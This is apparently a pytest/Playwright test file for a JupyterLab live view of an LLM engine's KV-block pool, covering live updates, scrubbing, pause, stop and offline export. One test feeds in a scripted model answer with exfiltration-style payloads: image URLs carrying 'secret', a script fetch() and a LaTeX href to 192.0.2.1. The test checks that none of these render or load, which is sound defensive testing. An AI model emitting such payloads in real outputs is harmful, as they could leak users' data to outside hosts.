"""The live view as a user has it: JupyterLab, a real kernel, a real model, sixteen requests at once."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.notebook.lab import Lab, Notebook, opened

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

LOAD = """\
import embedllm
llm = embedllm.LLM(num_kv_blocks=160, max_num_seqs=8, progress=False)
monitor, trace = llm.monitor(), llm.trace()
monitor"""
BUSY = """\
prompts = [f"# file {n % 4}\\nimport os\\n\\ndef function_{n}(" for n in range(16)]
requests = [llm.submit(prompt, max_tokens=40 + 9 * n, ignore_eos=True) for n, prompt in enumerate(prompts)]
for request in requests: request.result()
print("SYNC" + "_DONE")"""
PIXELS = """() => {
  const canvas = document.querySelector(".ekv [aria-label='Pool of KV blocks']");
  const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
  let sum = 0;
  for (let i = 0; i < data.length; i += 1) sum = (sum * 31 + data[i]) >>> 0;
  return sum;
}"""
STEP = "() => Number(document.querySelector('.ekv').dataset.step)"
SHOWN = """() => {
  const moment = document.querySelector(".ekv").moment();  // data-step is of the last frame drawn, this is of now
  return [moment.step, moment.digest() >>> 0];
}"""
DIGEST = "() => document.querySelector('.ekv').moment().digest() >>> 0"


@pytest.fixture(scope="module")
def lab(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    server = Lab(tmp_path_factory.mktemp("lab"))
    yield server
    server.close()


def in_sight(notebook: Notebook) -> None:
    """The view is on the screen and has drawn."""
    notebook.page.wait_for_selector(".ekv [aria-label='Pool of KV blocks']")
    notebook.page.evaluate("() => document.querySelector('.ekv').scrollIntoView()")
    notebook.page.wait_for_function("() => Number(document.querySelector('.ekv').dataset.frames) > 0")


def pictures_until(notebook: Notebook, text: str) -> list[tuple[int, int]]:
    """(step, pixels) of the pool as often as they change, until an output says `text`."""
    seen: list[tuple[int, int]] = []
    said = "(t) => [...document.querySelectorAll('.jp-OutputArea-output')].some((o) => o.innerText.includes(t))"
    for _ in range(2_000):
        now = (notebook.page.evaluate(STEP), notebook.page.evaluate(PIXELS))
        if not seen or seen[-1] != now:
            seen.append(now)
        if notebook.page.evaluate(said, text):
            return seen
        notebook.page.wait_for_timeout(30)
    raise AssertionError(f"nothing said {text}")


def test_sixteen_requests_seen_live(browser: Any, lab: Lab) -> None:
    with opened(browser, lab, "kv.ipynb", [LOAD, BUSY]) as notebook:
        page = notebook.page
        notebook.run_all()
        in_sight(notebook)

        during = pictures_until(notebook, "SYNC_DONE")  # while the cell keeps the kernel busy
        assert len({pixels for _, pixels in during}) >= 5 and during[-1][0] > during[0][0]
        notebook.wait_idle()
        before = page.evaluate(PIXELS)
        notebook.ask("later = llm.submit('class Later:', max_tokens=60, ignore_eos=True); later.result()")
        page.wait_for_function(f"(was) => ({PIXELS})() !== was", arg=before)  # and after it

        # Back in time: what is shown is what was recorded then.
        newest = page.evaluate(STEP)
        page.locator(".ekv").focus()
        for _ in range(4):
            page.keyboard.press("Shift+ArrowLeft")
        page.wait_for_function(f"(newest) => ({STEP})() < newest - 20", arg=newest)
        shown, digest = page.evaluate(SHOWN)
        assert int(notebook.ask(f"print(trace.at({shown}).digest())")) == digest
        page.keyboard.press("End")
        page.wait_for_function(f"(newest) => ({STEP})() >= newest", arg=newest)

        # A click reaches Python: the engine pauses, takes one step, goes on.
        page.get_by_role("group", name="engine").get_by_role("button", name=re.compile("pause", re.I)).click()
        notebook.ask("held = llm.submit('def held(', max_tokens=400, ignore_eos=True)")
        assert (
            notebook.ask("import time; time.sleep(.3); print(held.num_tokens, llm._core.worker._engine.steps_left)")
            == "0 0"
        )
        page.get_by_role("group", name="engine").get_by_role("button", name=re.compile("resume", re.I)).click()
        page.wait_for_function(f"(newest) => ({STEP})() > newest", arg=newest)
        notebook.ask("held.cancel()")

        # A page reload: the kernel lives on, and the view in the saved notebook finds it.
        page.evaluate("async () => { await jupyterapp.commands.execute('docmanager:save'); }")
        notebook.open()
        in_sight(notebook)
        page.wait_for_function(f"(newest) => ({STEP})() >= newest", arg=newest)

        assert notebook.outside == [] and notebook.errors == []


def test_an_answer_can_load_nothing(browser: Any, lab: Lab) -> None:
    """A model answers with images, a link, a script and a formula: shown live, saved, shown again, never fetched."""
    where = "http://192.0.2.1"
    hostile = f"![x]({where}/a.png?q=secret) <img src={where}/b.png> [c]({where}/c) <script>fetch('{where}/d')</script>"
    hostile += f" $\\href{{{where}/e}}{{x}}$"
    cell = (
        "import embedllm\n"
        f"model = embedllm.testing.ScriptedModel([{hostile!r}])\n"
        "llm = embedllm.LLM(model, tokenizer=embedllm.testing.ByteTokenizer())\n"
        "answer = llm.stream('hello', max_tokens=400)\nanswer"
    )
    with opened(browser, lab, "hostile.ipynb", [cell, "answer.result()", "print('ALL' + '_DONE')"]) as notebook:
        notebook.run_all()
        notebook.wait_text("ALL_DONE")
        notebook.wait_idle()
        notebook.page.evaluate("async () => { await jupyterapp.commands.execute('docmanager:save'); }")
        assert "192.0.2.1" in notebook.page.inner_text(".jp-Notebook")  # it is there, as text
        notebook.open()
        notebook.page.wait_for_timeout(500)
        assert notebook.page.locator(".jp-OutputArea a, .jp-OutputArea img, .jp-OutputArea script").count() == 0
        assert notebook.outside == [] and notebook.errors == []


def test_a_stop_button_stands_below_what_runs(browser: Any, lab: Lab) -> None:
    """It ends the cell that waits for the request, and a request in the background; then it is gone."""
    stop = (
        "() => [...document.querySelectorAll('.jp-OutputArea button')].filter((b) => b.textContent === 'Stop').length"
    )
    long = "max_tokens=1_900, ignore_eos=True"
    cells = ["import embedllm\nllm = embedllm.LLM(progress=False)", f"llm.stream('class A:', {long})"]
    with opened(browser, lab, "stop.ipynb", cells) as notebook:
        page = notebook.page
        notebook.run_all()
        for cell in (None, f"background = llm.submit('class B:', {long})\nbackground"):
            if cell is not None:
                page.evaluate("() => { jupyterapp.commands.execute('notebook:insert-cell-below'); }")
                page.evaluate(
                    "(cell) => { const { content } = jupyterapp.shell.currentWidget; "
                    "content.activeCell.model.sharedModel.setSource(cell); "
                    "jupyterapp.commands.execute('notebook:run-cell'); }",
                    cell,
                )
            page.wait_for_function(f"() => ({stop})() === 1", timeout=30_000)
            page.get_by_role("button", name="Stop", exact=True).click()
            page.wait_for_function(f"() => ({stop})() === 0", timeout=10_000)
            notebook.wait_idle()
            assert notebook.ask("print(llm.stats().num_requests_running)") == "0"
        assert notebook.ask("print(background.result.__self__._channel.completion().finish_reason)") == "cancelled"
        assert notebook.outside == [] and notebook.errors == []


def test_the_export_replays_from_disk(browser: Any, tmp_path: Path) -> None:
    """One file, opened from file://, that can be scrubbed and asks nobody for anything."""
    import embedllm

    with embedllm.LLM(embedllm.testing.HashLM(eos_every=0), num_kv_blocks=48, block_size=4, max_num_seqs=6) as llm:
        monitor = llm.monitor()
        heard: list[list[bytes]] = []
        monitor._feed.listen(heard.append)
        asked = [llm.submit([n, 2, 3, 4, 5], max_tokens=20 + n) for n in range(12)]
        for one in asked:
            one.result()
        monitor._feed.tick()
        monitor.to_html(tmp_path / "kv.html")
        with llm.trace() as trace:
            llm.generate([1, 2, 3], max_tokens=30)
        trace.to_html(tmp_path / "trace.html")
    text = (tmp_path / "kv.html").read_text(encoding="utf-8")
    assert "hash-lm" in text and len(text) < 400_000
    page = browser.new_page(viewport={"width": 1_280, "height": 1_000})
    requests, errors = [], []
    page.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: message.type == "error" and errors.append(message.text))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto((tmp_path / "trace.html").as_uri())
    page.wait_for_function("() => Number(document.querySelector('.ekv')?.dataset.step) > 10")
    last = page.evaluate(STEP)
    assert page.evaluate(DIGEST) == trace.at(last).digest()
    page.goto((tmp_path / "kv.html").as_uri())
    page.wait_for_function("() => Number(document.querySelector('.ekv')?.dataset.step) > 10")
    newest, digest = page.evaluate(STEP), page.evaluate(DIGEST)
    page.locator(".ekv").focus()
    page.keyboard.press("Home")
    page.wait_for_function(f"(newest) => ({STEP})() < newest", arg=newest)
    assert page.evaluate(DIGEST) != digest
    assert all(url.startswith(("file:", "blob:")) for url in requests) and errors == []
    assert page.locator("button:visible", has_text=re.compile("engine", re.I)).count() == 0  # there is no kernel
    page.close()
